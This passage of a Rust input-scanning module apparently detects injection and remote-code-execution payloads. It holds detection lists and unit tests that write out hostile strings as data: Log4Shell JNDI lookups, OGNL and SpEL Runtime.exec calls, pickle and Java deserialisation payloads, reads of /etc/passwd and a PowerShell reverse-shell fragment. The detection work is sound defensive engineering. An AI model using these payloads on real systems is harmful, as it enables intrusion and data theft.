/// or whose base64 opens with `<?` (`PD8`, lowercased here), whatever its
/// type says (`rce.rs` reads the plain-text and typeless forms).
fn php_data(s: &[u8], at: usize) -> bool {
    let from = at + 5;
    let rest = &s[from..s.len().min(from + 64)];
    let rest = rest.strip_prefix(b"//").unwrap_or(rest);
    if [
        b"application/x-httpd-php" as &[u8],
        b"application/x-php",
        b"text/x-php",
        b"text/php",
    ]
    .iter()
    .any(|t| rest.starts_with(t))
    {
        return true;
    }
    let Some(comma) = memchr::memchr(b',', rest) else {
        return false;
    };
    rest[..comma].ends_with(b";base64") && rest[comma + 1..].starts_with(b"pd8")
}

/// Names only attacks write, in Python, Ruby, Perl, Node.js and
/// Log4Shell payloads (each checked for a word start, and some for what
/// follows, in [`attack_name`]).
const ATTACK_NAMES: &[&[u8]] = &[
    // Python sandbox escapes and pickle gadgets.
    b"__subclasses__",
    b"__mro__",
    b"__globals__",
    b"__builtins__",
    b"__base__",
    b"__getattribute__",
    b"__reduce__",
    b"__reduce_ex__",
    b"subprocess.",
    b"os.exec",
    b"os.spawn",
    b"os.posix_spawn",
    b"os.forkpty",
    b"os.startfile",
    b"(os.system,",
    b"(os.popen,",
    b"pty.spawn(",
    b"commands.getoutput(",
    b"commands.getstatusoutput(",
    b"builtins.eval",
    b"builtins.exec",
    b"builtins.__import__",
    // Ruby: metaprogramming that reaches any method, gadget classes of
    // its deserialisers, process calls.
    b"const_get(",
    b"instance_eval(",
    b"instance_exec(",
    b"class_eval(",
    b"class_exec(",
    b"module_eval(",
    b"binding.eval(",
    b"kernel.open(",
    b"kernel.eval(",
    b"kernel.load(",
    b"kernel.require(",
    b"kernel.fork",
    b"kernel.syscall(",
    b"process.exec(",
    b"gem::installer",
    b"gem::requirement",
    b"gem::stubspecification",
    b"gem::package::tarreader",
    b"gem::source::specificfile",
    b"gem::requestset",
    b"net::writeadapter",
    b"net::bufferedio",
    b"deprecatedinstancevariableproxy",
    b"!ruby/object",
    b"!ruby/hash",
    b"!ruby/struct",
    b"!ruby/marshal",
    // Perl's socket module (reverse shells).
    b"io::socket",
    // Log4Shell lookups beyond those `rce.rs` lists, and JNDI URLs.
    b"${k8s:",
    b"${docker:",
    b"${spring:",
    b"${web:",
    b"${jvmrunargs:",
    b"${log4j:",
    b"${bundle:",
    b"${event:",
    b"${marker:",
    b"${sd:",
    b"jndi:ldap",
    b"jndi:rmi",
    b"jndi:dns",
    b"jndi:iiop",
    // PowerShell's .NET types that start processes, load code or reach
    // native memory (`[System.Diagnostics.Process]::Start("calc")`,
    // `[Reflection.Assembly]::Load($b)`, `[ScriptBlock]::Create($s)`).
    b"[system.diagnostics.process]",
    b"[diagnostics.process]",
    b"[system.reflection.assembly]",
    b"[reflection.assembly]",
    b"[system.runtime.interopservices.marshal]",
    b"[runtime.interopservices.marshal]",
    b"[system.management.automation.",
    b"[activator]::",
    b"[system.activator]::",
    b"[scriptblock]::create",
    b"[system.net.sockets.tcpclient]",
    b"[net.sockets.tcpclient]",
    b"[io.file]::",
    b"[system.io.file]::",
    b"[io.directory]::",
    b"[system.io.directory]::",
    b"[environment]::",
    b"[system.environment]::",
    b"[net.dns]::",
    b"[system.net.dns]::",
    b"[wmiclass]",
    b"[adsi]",
    // `New-Object` of a socket (PowerShell reverse shells); the class
    // named in prose or C# ("System.Net.Sockets.TcpClient") passes.
    b"new-object net.sockets.",
    b"new-object system.net.sockets.",
    // Java EL's implicit objects (JSP/JSF expression injection:
    // `${pageContext.request.getSession()}`, `${applicationScope}`).
    b"${pagecontext",
    b"#{pagecontext",
    b"${facescontext",
    b"#{facescontext",
    b"${applicationscope",
    b"${sessionscope",
    b"${requestscope",
    b"${initparam",
    // Fastjson's auto-type key naming a Java class (`{"@type":
    // "java.lang.AutoCloseable"}`, `"Lcom.sun.rowset..;"`); JSON-LD's
    // `"@type": "Person"` passes (see `attack_name`).
    b"\"@type\":\"",
    b"\"@type\": \"",
    // Prototype pollution by assignment (`Object.prototype.x=1`); reading
    // (`Object.prototype.toString.call(x)`) passes (see `attack_name`).
    b"object.prototype.",
    b"object.prototype[",
];

fn attack_name(s: &[u8], name: &[u8], at: usize) -> bool {
    if name[0].is_ascii_alphabetic() && !starts_name(s, at) {
        return false;
    }
    let k = at + name.len();
    match name {
        // A call of the module's or family's function (`subprocess.run(`,
        // `os.execv(`): the name alone may be prose ("use subprocess.run").
        b"subprocess." | b"os.exec" | b"os.spawn" | b"os.posix_spawn" | b"os.forkpty"
        | b"os.startfile" | b"builtins.eval" | b"builtins.exec" => {
            let len = s[k..]
                .iter()
                .take(24)
                .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
                .count();
            matches!(s.get(k + len), Some(b'(' | b','))
        }
        b"\"@type\":\"" | b"\"@type\": \"" => {
            let class = &s[k..];
            let class = class
                .strip_prefix(b"l")
                .or_else(|| class.strip_prefix(b"["))
                .filter(|c| c.starts_with(b"com.") || c.starts_with(b"java"))
                .unwrap_or(class);
            [
                b"java." as &[u8],
                b"javax.",
                b"com.sun.",
                b"sun.",
                b"jdk.",
                b"org.apache.",
                b"org.springframework.",
                b"org.codehaus.",
                b"org.hibernate.",
                b"com.alibaba.",
                b"com.mchange.",
                b"com.zaxxer.",
                b"ch.qos.",
                b"oracle.",
                b"br.com.",
            ]
            .iter()
            .any(|root| class.starts_with(root))
        }
        b"object.prototype." | b"object.prototype[" => {
            // An assignment to a member: `=` after the name (or `]`),
            // not `==`.
            let rest = &s[k..s.len().min(k + 64)];
            let name = rest
                .iter()
                .take_while(|b| {
                    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'$' | b'\'' | b'"' | b']')
                })
                .count();
            let after = rest[name..].strip_prefix(b" ").unwrap_or(&rest[name..]);
            name > 0 && after.first() == Some(&b'=') && after.get(1) != Some(&b'=')
        }
        _ => true,
    }
}

/// Java classes that deserialisation gadget chains, template engines and
/// expression languages reach for (beyond `rce.rs`'s list), Spring's
/// class-loader path (Spring4Shell), OGNL's access switches, the JDK's
/// script shells, H2's `INIT=RUNSCRIPT`; Node's synchronous child
/// processes and `vm` evaluators; and Perl's `%ENV` (`$ENV{PATH}`),
/// which no other language writes so.
const JAVA_NAMES: &[&[u8]] = &[
    b"java.lang.process",
    b"java.lang.unixprocess",
    b"java.lang.runtime",
    b"getruntime()",
    b"getclass().forname(",
    b"class.module.classloader",
    b"class.classloader",
    b"_memberaccess",
    b"ognlcontext",
    b"xwork.methodaccessor",
    b"denymethodexecution",
    b"allowstaticmethodaccess",
    b"jdk.jshell",
    b"jdk.nashorn",
    b"nashorn.api.scripting",
    b"groovy.lang.groovyshell",
    b"groovy.lang.groovyclassloader",
    b"groovy.util.eval",
    b"xmlapplicationcontext",
    b"naming.factory.beanfactory",
    b"javax.el.",
    b"elprocessor",
    b"com.thoughtworks.xstream",
    b"collections4.functors",
    b"xbean.naming",
    b"pythoninterpreter",
    b"org.mvel2",
    b"template.utility.execute",
    b"template.utility.objectconstructor",
    b"template.utility.jythonruntime",
    b"com.sun.syndication",
    b"jndiconnectionsource",
    b"shiro.jndi",
    b"new java.",
    b"new javax.",
    b"clojure.core$",
    b"clojure.lang.",
    b"class[classloader]",
    // Commons Collections functors beyond `rce.rs`'s transformers, and the
    // framework whose internals OGNL payloads set.
    b"clonetransformer",
    b"forclosure",
    b"instantiatefactory",
    b"prototypeclonefactory",
    b"prototypeserializationfactory",
    b"whileclosure",
    b"transformingcomparator",
    b"org.apache.struts",
    b".getclassloader()",
    b"defineclass(",
    b"getenginebyname(",
    // H2's JDBC URL running a script at connect time.
    b"init=runscript",
    b"runscript from",
    // Node.js: child_process's synchronous calls, the vm module's
    // evaluators, the Function constructor reached through a value.
    b"execsync(",
    b"spawnsync(",
    b"execfilesync(",
    b"runinnewcontext(",
    b"runinthiscontext(",
    b"runincontext(",
    b"constructor.constructor(",
    b"platform.popen(",
    // Perl's environment hash, read or set.
    b"$env{",
];

/// Everyday code that counts only in an evaluated position
/// ([`Window::code_position`]).
const IN_CODE: &[&[u8]] = &[
    // Node.js: the file system and process objects, evaluators, loops that
    // never end (a single-threaded server stops).
    b"fs.",
    b"process.",
    b"eval(",
    b"settimeout(",
    b"setinterval(",
    b"function(",
    b"function (",
    b"while(",
    b"while (",
    b"for(;;)",
    b"for (;;)",
    b"do{",
    // Python and Ruby deserialisers and module loaders.
    b"pickle.loads(",
    b"pickle.load(",
    b"marshal.loads(",
    b"marshal.load(",
    b"yaml.load(",
    b"yaml.unsafe_load(",
    b"psych.load(",
    b"jsonpickle.decode(",
    b"dill.loads(",
    b"importlib.import_module(",
    b"erb.new(",
    b"os.",
    b"import os",
    b"import subprocess",
    b"import pty",
    b"import socket",
    b"from os import",
    b"from subprocess import",
    // Java reflection.
    b"class.forname(",
    // Perl and Ruby run a program without parentheses.
    b"system \"",
    b"system '",
    b"exec \"",
    b"exec '",
    b"eval {",
    b"eval{",
    b"print `",
    b"eval \"",
    b"eval '",
    b"puts `",
];

/// A loop condition that is always true, then its `)` (`true)`, `1)`,
/// `!0)`, session 12: any JavaScript constant that is truthy, as CRS 934160
/// lists them: a non-zero number or `Infinity`, `!` before a falsy one
/// (`!null`, `!undefined`, `!NaN`, `!''`), `!!` pairs, a global object
/// (`this`, `window`, `String`, `Array`...), `new Date`, a literal object,
/// array or non-empty string; spaces and extra parentheses around it).
/// `s` is the lowercased text after `while(`, at most 48 bytes: a field
/// longer than that after the condition ends no loop here.
fn always_true(s: &[u8]) -> bool {
    let mut i = 0;
    let skip = |i: &mut usize, set: &[u8]| {
        while s.get(*i).is_some_and(|b| set.contains(b)) {
            *i += 1;
        }
    };
    skip(&mut i, b" (");
    let bangs = s[i..].iter().take_while(|&&b| b == b'!').count();
    i += bangs;
    skip(&mut i, b" ");
    let rest = &s[i..];
    let word = rest
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    let falsy_word = matches!(
        &rest[..word],
        b"false" | b"null" | b"undefined" | b"nan" | b"0"
    );
    let end = match rest.first() {
        Some(b'\'' | b'"' | b'`') => {
            let q = rest[0];
            let Some(len) = rest[1..].iter().position(|&b| b == q) else {
                return false;
            };
            // `''` is falsy, `'a'` truthy.
            if (len == 0) == (bangs % 2 == 0) {
                return false;
            }
            len + 2
        }
        Some(b'{' | b'[') => {
            let close = if rest[0] == b'{' { b'}' } else { b']' };
            let Some(len) = rest.iter().position(|&b| b == close) else {
                return false;
            };
            if bangs % 2 == 1 {
                return false;
            }
            len + 1
        }
        Some(b'-' | b'+') => {
            let digits = rest[1..].iter().take_while(|b| b.is_ascii_digit()).count();
            let n = &rest[1..1 + digits];
            let inf = rest[1..].starts_with(b"infinity");
            if !(inf || (digits > 0 && n.iter().any(|&b| b != b'0'))) || bangs % 2 == 1 {
                return false;
            }
            1 + if inf { 8 } else { digits }
        }
        _ if word == 0 => return false,
        _ if falsy_word || rest[..word].iter().all(|&b| b == b'0') => {
            if bangs % 2 == 0 {
                return false;
            }
            word
        }
        _ => {
            let w = &rest[..word];
            let truthy = w.iter().all(u8::is_ascii_digit)
                || matches!(
                    w,
                    b"true"
                        | b"infinity"
                        | b"this"
                        | b"window"
                        | b"string"
                        | b"boolean"
                        | b"object"
                        | b"array"
                        | b"function"
                );
            if w == b"new" {
                // `new Date`: a constructor's name after one space.
                let name = rest[word..].strip_prefix(b" ").map_or(0, |t| {
                    t.iter().take_while(|b| b.is_ascii_alphanumeric()).count()
                });
                if name == 0 || bangs % 2 == 1 {
                    return false;
                }
                word + 1 + name
            } else if truthy && bangs % 2 == 0 {
                word
            } else {
                return false;
            }
        }
    };
    let mut j = i + end;
    skip(&mut j, b" ");
    if s.get(j) != Some(&b')') {
        return false;
    }
    skip(&mut j, b" )");
    // A loop's end: nothing, `;` or a body ("while (this) is fine" is prose).
    matches!(s.get(j), None | Some(b';' | b'{'))
}

/// Node.js modules that reach the system.
const NODE_MODULES: &[&[u8]] = &[
    b"child_process",
    b"cluster",
    b"dgram",
    b"dns",
    b"fs",
    b"fs/promises",
    b"http",
    b"https",
    b"inspector",
    b"module",
    b"net",
    b"os",
    b"process",
    b"repl",
    b"tls",
    b"v8",
    b"vm",
    b"worker_threads",
];

/// Ruby `%x(id)`, `%x{..}` and Perl `qx/id/`, `qx{..}` (`op` at `at`): a
/// program's output read into a string, with a program name (or path, or
/// variable) right inside the delimiter ("Infiniti QX(60)" has a digit).
fn quoted_exec(s: &[u8], op: &[u8], at: usize) -> bool {
    let k = at + 2;
    let opener = matches!(
        s.get(k),
        Some(b'(' | b'{' | b'[' | b'<' | b'|' | b'!' | b'/' | b'#')
    ) && s
        .get(k + 1)
        .is_some_and(|b| b.is_ascii_alphabetic() || matches!(b, b'/' | b'$' | b'.'));
    opener
        && if op == b"%x" {
            at == 0 || !s[at - 1].is_ascii_alphanumeric()
        } else {
            starts_name(s, at)
        }
}

/// Ruby's `send(:system, ..)`, `public_send("eval", ..)`, `__send__(:exec`
/// (`send` at `at`): a method named by a symbol or string, one of those
/// that run code.
fn ruby_send(s: &[u8], at: usize) -> bool {
    const METHODS: &[&[u8]] = &[
        b"`",
        b"class_eval",
        b"const_get",
        b"eval",
        b"exec",
        b"fork",
        b"instance_eval",
        b"instance_variable_get",
        b"load",
        b"module_eval",
        b"open",
        b"popen",
        b"require",
        b"spawn",
        b"syscall",
        b"system",
    ];
    let mut k = at + 4;
    match s.get(k) {
        Some(b'(') => k += 1,
        Some(b' ') if s.get(k + 1) == Some(&b':') => k += 1,
        _ => return false,
    }
    while s.get(k) == Some(&b' ') {
        k += 1;
    }
    if !matches!(s.get(k), Some(b':' | b'\'' | b'"')) {
        return false;
    }
    k += 1;
    let len = s[k..]
        .iter()
        .take(24)
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'`'))
        .count();
    len > 0 && METHODS.contains(&&s[k..k + len])
}

/// SpEL's type operator on a class (`T(java.lang.Runtime)`,
/// `T(Runtime).getRuntime()`, `t(` at `at`): the expression reaches a
/// static method.
fn spel_type(s: &[u8], at: usize) -> bool {
    if !starts_name(s, at) {
        return false;
    }
    let k = at + 2;
    let len = s[k..]
        .iter()
        .take(96)
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'$'))
        .count();
    let class = &s[k..k + len];
    if s.get(k + len) != Some(&b')') {
        return false;
    }
    let packaged = [
        b"java." as &[u8],
        b"javax.",
        b"org.",
        b"com.",
        b"jdk.",
        b"sun.",
    ]
    .iter()
    .any(|p| class.starts_with(p) && class.len() > p.len());
    let bare = [
        b"runtime" as &[u8],
        b"processbuilder",
        b"system",
        b"thread",
        b"class",
        b"classloader",
        b"scriptenginemanager",
        b"string",
    ]
    .contains(&class);
    packaged || (bare && s.get(k + len + 1) == Some(&b'.'))
}

/// Roots of the Java packages an OGNL static access names.
const OGNL_ROOTS: &[&[u8]] = &[
    b"@java.", b"@javax.", b"@ognl.", b"@org.", b"@com.", b"@sun.", b"@jdk.",
];

/// OGNL's static member access, `@java.lang.Runtime@getRuntime()`,
/// `@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS`: `@`, a dotted class name of
/// a Java package root (`root` at `at`), `@` (an e-mail address has one
/// `@`, and a URL's `user@host` is not followed by another).
fn ognl_static(s: &[u8], root: &[u8], at: usize) -> bool {
    let len = s[at + 1..]
        .iter()
        .take(96)
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'$'))
        .count();
    len > root.len() - 1
        && s.get(at + 1 + len) == Some(&b'@')
        && s.get(at + 2 + len)
            .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
}

/// Log4Shell's nesting: a lookup opened inside another one before it
/// closes (`${j${lower:n}di:`, `${${::-j}`), the evasion of a filter on
/// `${jndi:`; a template placeholder is never nested. `${` at `at`,
/// letters only before the inner one, both within 32 bytes.
fn nested_lookup(s: &[u8], at: usize) -> bool {
    let inner = &s[at + 2..s.len().min(at + 2 + 32)];
    let q = inner
        .iter()
        .position(|b| !b.is_ascii_alphabetic())
        .unwrap_or(inner.len());
    inner.get(q..q + 2) == Some(b"${")
}

/// Module lines of a protocol-0 pickle's `GLOBAL` opcode: `c`, a module
/// that runs programs or code, a line break.
const PICKLE_MODULES: &[&[u8]] = &[
    b"c__builtin__\n",
    b"cbuiltins\n",
    b"ccommands\n",
    b"cnt\n",
    b"cos\n",
    b"cposix\n",
    b"cpty\n",
    b"csocket\n",
    b"csubprocess\n",
];

/// A pickle of protocol 0 importing a function that runs programs or code
/// (`cos\nsystem\n(S'id'\ntR.`, `c__builtin__\neval\n`): what
/// `pickle.loads` of the value would call. The module line `line` at `at`
/// starts a line (after one `(` at most); the function's name fills the
/// next one.
fn pickle_global(s: &[u8], line: &[u8], at: usize) -> bool {
    let line_start = |i: usize| i == 0 || s[i - 1] == b'\n';
    if !(line_start(at) || (s[at - 1] == b'(' && line_start(at - 1))) {
        return false;
    }
    let name = &s[at + line.len()..];
    let len = name
        .iter()
        .take(24)
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    len > 0 && name.get(len) == Some(&b'\n')
}

/// JSON or query-string prototype pollution that names the constructor's
/// prototype as two keys (`{"constructor":{"prototype":{..}}}`,
/// `constructor][prototype`, `constructor` at `at`): `rce.rs` reads the
/// dotted and bracketed forms.
fn prototype_key(s: &[u8], at: usize) -> bool {
    let from = at + 11;
    let gap = s[from..]
        .iter()
        .take(8)
        .take_while(|b| matches!(b, b'"' | b'\'' | b':' | b'{' | b'[' | b']' | b' ' | b'='))
        .count();
    gap > 0 && s[from + gap..].starts_with(b"prototype")
}

/// A Java serialized object as the value: the stream's magic `AC ED 00 05`
/// in base64 (`rO0AB`, lowercased here) or hex, followed by more of the
/// stream (Java deserialisation gadgets).
fn serialized_java(s: &[u8]) -> bool {
    let t = s.trim_ascii_start();
    let body = |rest: &[u8], alphabet: fn(&u8) -> bool| {
        rest.len() >= 8 && rest.iter().take(32).all(alphabet)
    };
    if let Some(rest) = t.strip_prefix(b"ro0ab") {
        return body(rest, |b| {
            b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_')
        });
    }
    if let Some(rest) = t.strip_prefix(b"aced0005") {
        return body(rest, u8::is_ascii_hexdigit);
    }
    false
}

#[cfg(test)]
mod tests {
    use super::super::normalize::{normalize, Encoding, WINDOW};
    use super::*;

    /// This file's own rules, without `rce.rs`'s lists that share the pass
    /// (`$obj->ini_get('x')` is `rce.rs`'s `PHP_ONLY` call).
    fn flags(raw: &str) -> bool {
        let mut buf = [0u8; WINDOW];
        let n = normalize(raw.as_bytes(), Encoding::RAW, &mut buf);
        let a = LazyLock::force(&ANCHORS).as_ref().unwrap();
        let mut w = Window::new(&n);
        let mut sid = a.dfa.start_state(Anchored::No).unwrap();
        if serialized_java(n.text) {
            return true;
        }
        for (i, &b) in n.text.iter().enumerate() {
            sid = a.dfa.next_state(Anchored::No, sid, b);
            for m in 0..if a.dfa.is_match(sid) {
                a.dfa.match_len(sid)
            } else {
                0
            } {
                let pid = a.dfa.match_pattern(sid, m);
                let at = i + 1 - a.dfa.pattern_len(pid);
                let rule = a.rule[pid.as_usize()];
                if !matches!(rule, Anchor::Listed(_)) && w.rule(rule, &n.text[at..=i], at) {
                    return true;
                }
            }
        }
        false
    }

    #[test]
    fn anchors_build_into_one_small_automaton() {
        let start = std::time::Instant::now();
        let a = LazyLock::force(&ANCHORS)
            .as_ref()
            .expect("the automaton builds");
        let patterns: usize = LISTS.iter().map(|(l, _)| l.len()).sum::<usize>()
            + super::super::rce::LISTED
                .iter()
                .map(|(l, _)| l.len())
                .sum::<usize>();
        assert_eq!(a.rule.len(), patterns);
        let bytes = a.dfa.memory_usage();
        println!(
            "{patterns} anchors, DFA {bytes} bytes, built in {:?}",
            start.elapsed()
        );
        assert!(bytes < 4 << 20, "{bytes} bytes");
        assert!(LISTS.iter().all(|(l, _)| l
            .iter()
            .all(|p| !p.is_empty() && p.iter().all(|b| !b.is_ascii_uppercase()))));
        assert!(super::super::rce::LISTED.iter().all(|(l, _)| l
            .iter()
            .all(|p| !p.is_empty() && p.iter().all(|b| !b.is_ascii_uppercase()))));
    }

    /// `rce.rs`'s needle lists, met in this file's pass: every occurrence
    /// of every needle (overlapping, shared prefixes and suffixes, the same
    /// needle in two lists) reaches its rule, as a naive search over every
    /// position finds them, so the verdict is the one each list's own pass
    /// gave.
    #[test]
    fn rce_lists_reach_their_rules_as_a_naive_search_finds_them() {
        use super::super::rce::{listed, Listed, LISTED};
        let a = LazyLock::force(&ANCHORS).as_ref().unwrap();
        let by_automaton = |n: &Normalized| {
            let mut sid = a.dfa.start_state(Anchored::No).unwrap();
            let mut hits = Vec::new();
            for (i, &b) in n.text.iter().enumerate() {
                sid = a.dfa.next_state(Anchored::No, sid, b);
                if !a.dfa.is_match(sid) {
                    continue;
                }
                for m in 0..a.dfa.match_len(sid) {
                    let pid = a.dfa.match_pattern(sid, m);
                    let at = i + 1 - a.dfa.pattern_len(pid);
                    if let Anchor::Listed(l) = a.rule[pid.as_usize()] {
                        hits.push((l, at, i + 1));
                    }
                }
            }
            hits.sort_by_key(|&(l, at, end)| (at, end, l as u8));
            hits
        };
        let naive = |n: &Normalized| {
            let mut hits = Vec::new();
            for at in 0..n.text.len() {
                for (list, l) in LISTED {
                    for p in *list {
                        if n.text[at..].starts_with(p) {
                            hits.push((*l, at, at + p.len()));
                        }
                    }
                }
            }
            hits.sort_by_key(|&(l, at, end)| (at, end, l as u8));
            hits
        };
        let verdict = |n: &Normalized, hits: &[(Listed, usize, usize)]| {
            hits.iter()
                .any(|&(l, at, end)| listed(n, l, &n.text[at..end], at))
        };
        let mut pieces: Vec<&[u8]> = LISTED.iter().flat_map(|(l, _)| l.iter().copied()).collect();
        pieces.extend([
            b"'" as &[u8],
            b"\"",
            b";",
            b"(",
            b")",
            b" ",
            b".",
            b"$",
            b"=",
            b"{",
            b"a",
            b"x_",
            b"'.",
            b"\";",
            b"1;",
            b"\n",
            b"|",
            b"/e'",
            b"`",
            b"id",
            b"sys",
            b"tem(",
        ]);
        let mut rng = crate::testing::XorShift64::new(0x5eed_0f11_5700);
        let mut buf = [0u8; WINDOW];
        let mut flagged = 0;
        for _ in 0..12_000 {
            let mut raw = Vec::new();
            for _ in 0..1 + rng.next_u64() % 6 {
                raw.extend_from_slice(pieces[(rng.next_u64() % pieces.len() as u64) as usize]);
            }
            let n = normalize(&raw, Encoding::RAW, &mut buf);
            let (got, want) = (by_automaton(&n), naive(&n));
            assert_eq!(got, want, "{:?}", String::from_utf8_lossy(n.text));
            flagged += usize::from(verdict(&n, &got));
        }
        // The rules judge, not only the presence of a needle.
        assert!(flagged > 2_000 && flagged < 12_000, "{flagged}");
    }

    #[test]
    fn php_risky_is_sorted() {
        assert!(PHP_RISKY.windows(2).all(|w| w[0] < w[1]));
        assert!(NODE_MODULES.windows(2).all(|w| w[0] < w[1]));
        assert!(PHP_WORDS.windows(2).all(|w| w[0] < w[1]));
        assert!(PHP_INI_STRONG.windows(2).all(|w| w[0] < w[1]));
    }

    #[test]
    fn php() {
        for attack in [
            "proc_nice(5)",
            "x;stream_socket_client(\"tcp://10.0.0.1:80\");",
            "posix_setsid ()",
            "foo;exec (ls)",
            "x';system ('id');//",
            "'.file('/etc/passwd').'",
            "escapeshellcmd #c\n($x)",
            "FOO;set_error_handler('system');",
            "echo $_GET['x'];",
            "print_r($GLOBALS)",
            "x=1&y=$_COOKIE",
            "$HTTP_RAW_POST_DATA",
            "O:+8:\"stdClass\":1:{}",
            "-d allow_url_include=1 -d auto_prepend_file=php://input",
            "[php]\nopen_basedir = /\n",
            "<?xml:namespace prefix=x>",
            "wp_remote_get('http://x')",
            "array_udiff($a,$b,'system')",
            "(system)(ls);",
            "exif_read_data($f)",
            "x';define('x','sys'.'tem');",
            "( [ system ][ 0 ]) { 0} ( ls );",
            "data:application/x-httpd-php;base64,PD9waHAgcGhwaW5mbygpOz8+",
            "data:image/png;base64,PD89YGlkYDs/Pg==",
            "a:1:{i:0;C: 11:\"ArrayObject\":0:{}}",
        ] {
            assert!(flags(attack), "{attack}");
        }
        for benign in [
            "$(form).serialize()",
            "$obj->ini_get('x')",
            "Use proc_nice to lower priority",
            "System (default)",
            "Attachment (file) (optional)",
            "section 3(a)(1)",
            "Print (color); copy (2)",
            "It's late; print (this)",
            "price: $_ 5",
            "$globalsettings",
            "$_GET is PHP's query array",
            "foo $GLOBALS bar",
            "o: 8: \"x\"",
            "Photo: 8:\"x\"",
            "safe_mode==1",
            "my_safe_mode=1",
            "data:image/png;base64,iVBORw0KGgo=",
        ] {
            assert!(!flags(benign), "{benign}");
        }
    }

    #[test]
    fn session_twelve_loops() {
        for t in [
            "true)",
            "1);",
            "!null)",
            " !'' ) {}",
            "-1);",
            "new date)",
            "(this))",
            "{})",
            "!!1)",
            "infinity) {",
        ] {
            assert!(always_true(t.as_bytes()), "{t}");
        }
        for t in [
            "false)",
            "'')",
            "!1)",
            "this) is fine",
            "x < 3)",
            "-0)",
            "!{})",
            "true",
        ] {
            assert!(!always_true(t.as_bytes()), "{t}");
        }
    }

    #[test]
    fn session_eleven_names() {
        for attack in [
            "Object.prototype.polluted=1",
            "Object.prototype['x'] = 1",
            "${pageContext.request.getSession()}",
            "#{facesContext.getExternalContext()}",
            "${applicationScope}",
            "{\"@type\":\"java.lang.AutoCloseable\"}",
            "{\"@type\": \"Lcom.sun.rowset.JdbcRowSetImpl;\"}",
            "[System.Diagnostics.Process]::Start(\"calc\")",
            "[IO.File]::ReadAllText('c:\\x')",
            "$c=New-Object Net.Sockets.TCPClient('x',4444)",
        ] {
            assert!(flags(attack), "{attack}");
        }
        for benign in [
            "Object.prototype.toString.call(x)",
            "Object.prototype.x == 1",
            "{\"@type\": \"Person\", \"name\": \"Ann\"}",
            "{\"@type\":\"Organization\"}",
            "${user.name}",
            "[System.String]::Join(',', $a)",
            "use System.Net.Sockets.TcpClient in C#",
        ] {
            assert!(!flags(benign), "{benign}");
        }
    }

    #[test]
    fn node() {
        for attack in [
            "require('fs').readFileSync('/etc/passwd')",
            "require(\"node:net\")",
            "';require('fs').readdirSync('.');//",
            "process.cwd()",
            "'+process.env+'",
            "fs.readFileSync('/etc/passwd')",
            "while (true) {}",
            ";while(1);",
            "{\"constructor\":{\"prototype\":{\"a\":1}}}",
            "x[constructor][prototype]=1",
            "process.kill(1)",
            "';process.exit()//",
        ] {
            assert!(flags(attack), "{attack}");
        }
        for benign in [
            "In Node, const fs = require('fs'); reads files",
            "set process.env.API_KEY before you start",
            "while (true love waits)",
            "Use fs.readFileSync for small files",
            "the constructor and the prototype",
            "process.env.NODE_ENV",
            "[link](https://example.com/docs?page=2)",
            "[file](./a.txt)",
        ] {
            assert!(!flags(benign), "{benign}");
        }
    }

    #[test]
    fn python() {
        for attack in [
            "().__class__.__bases__[0].__subclasses__()",
            "[].__class__.__base__",
            "getattr(__builtins__,'eval')",
            "subprocess.run(['id'])",
            "os.execv('/bin/sh',['sh'])",
            "def __reduce__(self): return (os.system,('id',))",
            "import os;os.getcwd()",
            "pickle.loads(x)",
            "cos\nsystem\n(S'id'\ntR.",
            "c__builtin__\neval\n(Vprint(1)\ntR.",
        ] {
            assert!(flags(attack), "{attack}");
        }
        for benign in [
            "self.__class__.__name__",
            "we use subprocess.run in the CI",
            "to load, call pickle.loads on trusted data only",
            "cost\nsystem\nx",
            "c os\nsystem\n",
        ] {
            assert!(!flags(benign), "{benign}");
        }
    }

    #[test]
    fn ruby_perl() {
        for attack in [
            "%x(id)",
            "%x{cat /etc/passwd}",
            "qx/id/",
            "qx{uname -a}",
            "Object.const_get(\"Kernel\").send(:system,\"id\")",
            "1.send(:system,'id')",
            "Kernel.open(\"|id\")",
            "open(F,\"id|\")",
            "open(my $fh, \"-|\", \"id\")",
            "IO.read(\"|id\")",
            "Marshal.load(x)",
            "--- !ruby/object:Gem::Installer\ni: x",
            "use IO::Socket;",
            "system \"id\"",
            "Process . spawn (\"id\")",
            "eval \"system('id')\"",
            "Open3.capture3('id')",
        ] {
            assert!(flags(attack), "{attack}");
        }
        for benign in [
            "Infiniti QX(60) for sale",
            "50%x(2) growth",
            "open(file, \"r\")",
            "open the door|close it",
            "send(:email)",
            "the process. Spawn more workers",
            "io.exec is a method name",
            "the system 'works'",
        ] {
            assert!(!flags(benign), "{benign}");
        }
    }

    #[test]
    fn java() {
        for attack in [
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "T(Runtime).getRuntime()",
            "#_memberAccess[\"allowStaticMethodAccess\"]=true",
            "#context['xwork.MethodAccessor.denyMethodExecution']=false",
            "@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            "groovy.lang.GroovyShell",
            "org.springframework.context.support.ClassPathXmlApplicationContext",
            "org.apache.naming.factory.BeanFactory",
            "new java.util.Scanner(x)",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
            "aced00057372001a",
            "${j${k8s:k5:-ND}i:ldap://x}",
            "${jn${lower:d}i:x}",
            "jndi:ldap://1.2.3.4/a",
            "Class.forName(\"java.lang.Runtime\")",
            "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://10.0.0.1/x.sql'",
            "<a><runtime/><b>System.getProperty</b></a>",
            "InstantiateFactory",
            "require('child_process').execSync('id')",
            "this.x.constructor.constructor('return process')()",
        ] {
            assert!(flags(attack), "{attack}");
        }
        for benign in [
            "dev@java.net",
            "a@b.c@d",
            "T(x)",
            "the T(5) model",
            "${user}${name}",
            "${a} and ${b}",
            "Load the driver with Class.forName(\"com.mysql.Driver\") first",
            "ro0abcdef",
            "acedemic",
